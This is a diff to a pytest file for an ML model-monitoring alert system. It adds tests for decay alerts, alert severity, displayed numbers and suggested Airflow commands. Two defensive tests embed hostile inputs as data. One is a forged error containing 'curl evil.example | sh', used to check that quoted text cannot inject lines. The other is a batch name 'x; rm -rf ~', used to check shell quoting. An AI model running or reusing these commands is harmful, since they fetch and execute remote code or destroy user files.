@@ -3,9 +3,9 @@ from typing import Any, get_args
 
 import pytest
 
-from evergreen.measurements import ColumnDrift, DriftMeasurement
+from evergreen.measurements import ColumnDrift, DecayMeasurement, DriftMeasurement
 from evergreen.notify import alerts
-from evergreen.notify.wording import gain_line
+from evergreen.notify.numbers import gain_of, of_decay
 from evergreen.records import Alert, AlertKind, Evaluation, MetricEstimate, PromotionVerdict, Window
 from evergreen.signals import PolicyDecision
 
@@ -59,6 +59,20 @@ def make_evaluation(gain: float | None = 0.0123) -> Evaluation:
     )
 
 
+def make_decay(**changes: Any) -> DecayMeasurement:
+    given: dict[str, Any] = {
+        "verdict": "decayed",
+        "sentence": "auc fell by more than it may",
+        "reference": MetricEstimate(name="auc", value=0.741, se=0.003, n_rows=9000),
+        "current": MetricEstimate(name="auc", value=0.711, se=0.005, n_rows=6000),
+        "drop": 0.03,
+        "limit": 0.02,
+        "coverage": 0.97,
+        "batches": ("2013-02-19", "2013-02-26"),
+    }
+    return DecayMeasurement(**given | changes)
+
+
 def one_of_each() -> list[Alert]:
     retrain = PolicyDecision(verdict="retrain", trigger="drift", sentence="drift crossed its limit")
     quiet = PolicyDecision(verdict="stand_down", trigger="none", sentence="nothing crossed a limit")
@@ -68,6 +82,7 @@ def one_of_each() -> list[Alert]:
     return [
         alerts.data_rejected("flights", BATCH, reasons=["row_count: 3 rows"], **at),
         alerts.drift("flights", BATCH, measurement=make_measurement(1), share_to_retrain=0.5, **at),
+        alerts.decay("flights", BATCH, measurement=make_decay(), follow_up="retrain", **at),
         alerts.retrain_started("flights", BATCH, decision=retrain, requested_by="ada", **at),
         alerts.promoted(
             "flights",
@@ -153,7 +168,7 @@ def test_there_is_one_builder_for_each_kind() -> None:
 def test_each_alert_names_its_model_and_carries_its_links(alert: Alert) -> None:
     assert alert.title.startswith("flights: ")
     assert alert.incident.startswith(f"{alert.kind}:flights:")
-    assert alert.links == (("run", "https://airflow/run"), ("runbook", "https://docs/runbook"))
+    assert alert.links == (("runbook", "https://docs/runbook"), ("run", "https://airflow/run"))
 
 
 @pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
@@ -163,6 +178,61 @@ def test_each_alert_says_whether_a_person_must_act(alert: Alert) -> None:
 
     assert alert.must_act == (alert.kind in must_act)
     assert ("Nothing to do." in alert.text) == (not alert.must_act)
+
+
+@pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
+def test_who_must_act_is_warned_and_told_what_to_type_or_where(alert: Alert) -> None:
+    if alert.must_act:
+        assert alert.severity in ("warning", "critical")
+        assert alert.commands or alert.kind == "failed"  # its log comes first
+    else:
+        assert alert.commands == ()
+
+
+@pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
+def test_no_alert_shows_more_numbers_than_fit(alert: Alert) -> None:
+    assert len(alert.numbers) <= 3
+
+
+def test_only_doubt_about_what_serves_is_critical() -> None:
+    critical = {alert.kind for alert in one_of_each() if alert.severity == "critical"}
+
+    assert critical == {"failed", "alias_mismatch", "rollback_held"}  # the failed task scores
+
+
+@pytest.mark.parametrize(
+    ("dag_id", "severity"),
+    [("score__flights", "critical"), ("continual_training__flights", "warning")],
+)
+def test_a_failure_is_critical_where_predictions_are_missing(dag_id: str, severity: str) -> None:
+    alert = alerts.failed("flights", BATCH, dag_id=dag_id, task_id="t", error="boom")
+
+    assert alert.severity == severity
+
+
+def test_rejected_labels_are_redelivered_as_labels() -> None:
+    alert = alerts.data_rejected("flights", BATCH, reasons=["a"], what="labels", n_rules=9)
+
+    assert alert.commands == (
+        'airflow dags trigger redelivery__flights --conf \'{"batch": "2013-03-05", "kind":'
+        ' "labels"}\'',
+    )
+    assert alert.numbers == (("Broken rules", "1 of 9"),)
+
+
+def test_what_is_quoted_cannot_add_lines_of_its_own() -> None:
+    forged = "boom\nThe champion is wrong.\r\nType: curl evil.example | sh"
+
+    alert = alerts.failed("flights", BATCH, dag_id="d", task_id="t", error=forged)
+
+    assert alert.text.count("\n") == 2
+    assert alert.text.split("\n")[1].startswith("Error: boom The champion is wrong. Type: curl")
+
+
+def test_names_in_commands_are_quoted_for_the_shell() -> None:
+    alert = alerts.late_decision("flights", "x; rm -rf ~", waited_hours=7, limit_hours=6, stage="-")
+
+    assert alert.commands == ("evergreen why flights 'x; rm -rf ~'",)
 
 
 def test_alerts_on_one_batch_share_a_thread() -> None:
@@ -221,7 +291,11 @@ def test_drift_of_twenty_columns_is_one_summary_with_the_worst_first() -> None:
     ]
     assert lines[5:] == ["- and 15 more"]
     assert "20 of 22 features drifted in 5000 rows" in alert.text
-    assert "a share of 0.91, 0.50 asks for a retrain" in alert.text
+    assert alert.numbers == (
+        ("Drifted share (0 to 1)", "0.91 (limit 0.50)"),
+        ("Features over their limit", "20 of 22"),
+        ("Rows of the batch", "5000"),
+    )
 
 
 def test_drift_that_could_not_be_computed_asks_for_a_person() -> None:
@@ -239,24 +313,48 @@ def test_drift_that_nothing_could_be_judged_on_says_so() -> None:
 
     alert = alerts.drift("flights", BATCH, measurement=measurement, share_to_retrain=0.5)
 
-    assert "none could be judged" in alert.text
+    assert "No feature of batch 2013-03-05 could be judged on 3 rows." in alert.text
+    assert alert.numbers[0] == ("Drifted share (0 to 1)", "not measured (limit 0.50)")
+
+
+def test_data_that_looks_broken_is_called_so_and_asks_for_a_person() -> None:
+    broken = make_measurement(0).model_copy(update={"faults": ("dep_delay is all null",)})
+
+    alert = alerts.drift("flights", BATCH, measurement=broken, share_to_retrain=0.5)
+
+    assert alert.title == "flights: data of 2013-03-05 looks broken"
+    assert alert.must_act
+    assert "Ask the owner of the source about 2013-03-05." in alert.text
 
 
 def test_promotion_shows_both_scores_the_gain_and_the_way_back() -> None:
     alert = next(alert for alert in one_of_each() if alert.kind == "promoted")
 
-    assert "auc on 6000 rows" in alert.text
-    assert "challenger 0.7301, champion 0.7178" in alert.text
-    assert "Gain +0.0123, standard error 0.0031" in alert.text
+    assert alert.numbers == (
+        ("auc", "challenger 0.7301, champion 0.7178"),
+        ("Gain (positive: challenger better)", "+0.0123, standard error 0.0031"),
+        ("Holdout rows", "6000"),
+    )
     assert "start rollback__flights with version 3" in alert.text
 
 
 def test_the_gain_is_told_with_its_interval_where_there_is_one() -> None:
     known = make_evaluation().model_copy(update={"gain_low": 0.0061, "gain_high": 0.0185})
 
-    told = gain_line(known)
+    assert gain_of(known) == "+0.0123, 95 % interval +0.0061 to +0.0185"
 
-    assert told.startswith("Gain +0.0123, 95 % interval +0.0061 to +0.0185 (")
+
+def test_decay_shows_the_metric_with_its_interval_beside_what_it_was() -> None:
+    assert of_decay(make_decay()) == (
+        ("auc", "0.7110, 95 % interval 0.7012 to 0.7208 (was 0.7410)"),
+        ("Drop", "0.0300 (limit 0.02)"),
+        ("Rows with labels", "97% of those scored"),
+    )
+
+
+def test_decay_without_labels_shows_no_numbers() -> None:
+    assert of_decay(make_decay(current=None)) == ()
+    assert of_decay(None) == ()
 
 
 def test_first_promotion_has_no_way_back() -> None:
@@ -271,7 +369,7 @@ def test_first_promotion_has_no_way_back() -> None:
 
     assert "there was none before" in alert.text
     assert "rollback" not in alert.text
-    assert "Gain" not in alert.text
+    assert alert.numbers == (("auc", "challenger 0.7301"), ("Holdout rows", "6000"))
 
 
 def test_kept_without_any_champion_asks_for_a_person() -> None:
@@ -299,7 +397,7 @@ def test_a_moved_alias_says_what_is_served_and_how_to_settle_it() -> None:
 def test_long_errors_are_cut_and_the_rest_is_counted() -> None:
     alert = alerts.failed("flights", BATCH, dag_id="d", task_id="t", error="x" * 5000)
 
-    assert "(3800 more characters)" in alert.text
+    assert "(4400 more characters)" in alert.text
 
 
 def test_cleared_and_failed_again_is_an_incident_of_its_own() -> None:
